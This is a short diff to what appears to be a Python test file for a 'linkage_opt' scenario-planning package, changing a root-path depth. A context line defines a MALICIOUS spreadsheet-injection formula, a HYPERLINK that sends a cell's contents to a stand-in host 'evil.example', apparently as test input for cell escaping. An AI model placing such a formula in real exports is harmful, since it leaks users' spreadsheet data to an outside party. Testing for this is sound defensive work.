@@ -22,7 +22,7 @@ from linkage_opt.inputs.load import load_scenario
 from linkage_opt.schema import DOCS_ZH, TABLE_LABELS, TABLE_ORDER, TABLES
 from linkage_opt.solving.plan import escape_cell, read_plan_csv, unescape_cell, write_csv
 
-ROOT = Path(__file__).resolve().parents[1]
+ROOT = Path(__file__).resolve().parents[2]
 MALICIOUS = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 SHEETS_EN = ["Summary", "Coverage", "Allocations", "Providers", "Programs", "Unmet",
              "Committee", "Task sheets", "Rosters", "Org notices", "Donor notices"]      # + action sheets
